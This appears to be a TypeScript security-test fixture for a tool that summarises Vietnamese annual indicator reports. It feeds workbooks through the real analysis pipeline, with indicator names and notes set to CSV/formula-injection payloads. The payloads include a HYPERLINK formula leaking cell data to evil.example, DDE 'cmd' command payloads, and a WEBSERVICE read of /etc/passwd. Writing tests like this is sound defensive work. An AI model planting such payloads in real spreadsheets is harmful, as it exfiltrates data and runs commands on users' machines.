/**
 * Hostile returns for the security tests: indicator names and notes that a spreadsheet would run
 * as formulas ("CSV / formula injection"), read through the real pipeline (grid → analyze → plan).
 */
import { analyze, type Analysis, type SourceWorkbook } from "../../src/core/analyze";
import type { CellValue } from "../../src/core/grid";
import { buildSummaryPlan, type SummaryOptions } from "../../src/core/plan/build-summary";
import type { SummaryPlan } from "../../src/core/plan/types";
import { DEFAULT_SETTINGS } from "../../src/core/settings";

/** Each begins with a character a spreadsheet may take as the start of a formula. */
export const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
  "=1+1",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1 tab",
  "\r=1+1 cr",
  '=WEBSERVICE("file:///etc/passwd")',
];

/** A return whose names and notes are the payloads (and a sub-row "- hộ cận nghèo", which is normal). */
export function hostileSource(area: string, file: string): SourceWorkbook {
  const values: CellValue[][] = [
    [`BÁO CÁO KẾT QUẢ THỰC HIỆN CÁC CHỈ TIÊU NĂM 2024 - ${area.toUpperCase()}`, null, null, null, null, null],
    ["STT", "Chỉ tiêu", "ĐVT", "Kế hoạch", "Thực hiện", "Ghi chú"],
    ...PAYLOADS.map((p, i): CellValue[] => [i + 1, p, "hộ", 100, 40 + 10 * i, p]),
    [null, "- hộ cận nghèo", "hộ", 20, 30, "@ghi chú"],
  ];
  return { file, grids: [{ sheet: area, top: 1, left: 1, values }], findings: [] };
}

export function hostileAnalysis(): Analysis {
  return analyze([hostileSource("Xã A", "xa-a.xlsx"), hostileSource("Xã B", "xa-b.xlsx")], DEFAULT_SETTINGS);
}

export function hostilePlan(options: SummaryOptions = {}): SummaryPlan {
  return buildSummaryPlan(hostileAnalysis(), DEFAULT_SETTINGS, options);
}

/** True when a spreadsheet could take the text as a formula. */
export const formulaLike = (text: string): boolean => /^[=+\-@\t\r]/.test(text);
